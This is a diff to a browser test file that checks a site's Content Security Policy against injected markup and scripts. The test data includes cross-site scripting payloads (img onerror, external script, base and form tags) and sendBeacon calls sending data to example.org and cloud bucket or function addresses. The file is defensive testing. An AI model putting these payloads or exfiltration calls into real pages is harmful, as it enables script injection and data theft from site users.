@@ -8,7 +8,7 @@ let page: Page;
 
 beforeAll(async () => {
   page = await visit('/');
-  // Violations are expected here.
+  // Violations are expected here, so they fail no test.
   page.removeAllListeners('console').removeAllListeners('pageerror');
 });
 afterAll(() => leave(page));
@@ -32,11 +32,16 @@ async function stopped(act: () => Promise<unknown>): Promise<string> {
 test.each([
   ['run a script', '<img src="x" onerror="document.title = 1">', 'script-src-attr'],
   ['fetch a script', '<script src="https://example.org/x.js"></script>', 'script-src-elem'],
-  ['send what the page shows in a picture’s address', '<img src="https://example.org/?x">', 'img-src'],
-  ['lay another page over this one', '<iframe src="https://example.org"></iframe>', 'frame-src'],
+  ['send data in an image’s address', '<img src="https://example.org/?x">', 'img-src'],
+  [
+    'load an image from a stranger’s bucket',
+    '<img src="https://storage.googleapis.com/bucket/x.png">',
+    'img-src',
+  ],
+  ['embed another page', '<iframe src="https://example.org"></iframe>', 'frame-src'],
   ['send a form elsewhere', '<form action="https://example.org"><button>', 'form-action'],
-  ['turn addresses elsewhere', '<base href="https://example.org">', 'base-uri'],
-])('markup that slipped into the page could not %s', async (_what, markup, directive) => {
+  ['change what relative addresses lead to', '<base href="https://example.org">', 'base-uri'],
+])('injected markup cannot %s', async (_what, markup, directive) => {
   const slipIn = (slipped: string) => {
     const fragment = document.createRange().createContextualFragment(slipped);
     const button = fragment.querySelector('button');
@@ -46,7 +51,22 @@ test.each([
   expect(await stopped(() => page.evaluate(slipIn, markup))).toBe(directive);
 });
 
-test('an injected script cannot send data to another origin', async () => {
-  const send = () => navigator.sendBeacon('https://example.org', 'read');
-  expect(await stopped(() => page.evaluate(send))).toBe('connect-src');
+test.each([
+  ['another origin', 'https://example.org'],
+  ['a stranger’s bucket', 'https://storage.googleapis.com/bucket/x'],
+  ['a stranger’s bucket by its own name', 'https://bucket.storage.googleapis.com/x'],
+  ['a stranger’s function', 'https://asia-south1-stranger.cloudfunctions.net/collect'],
+])('an injected script cannot send data to %s', async (_where, address) => {
+  const send = (to: string) => navigator.sendBeacon(to, 'read');
+  expect(await stopped(() => page.evaluate(send, address))).toBe('connect-src');
+});
+
+test('the public directory runs no script, not even one of this origin', async () => {
+  await page.goto('/directory');
+  const slipIn = () => {
+    const script = document.createElement('script');
+    script.src = '/service-worker.js';
+    document.body.append(script);
+  };
+  expect(await stopped(() => page.evaluate(slipIn))).toBe('script-src-elem');
 });
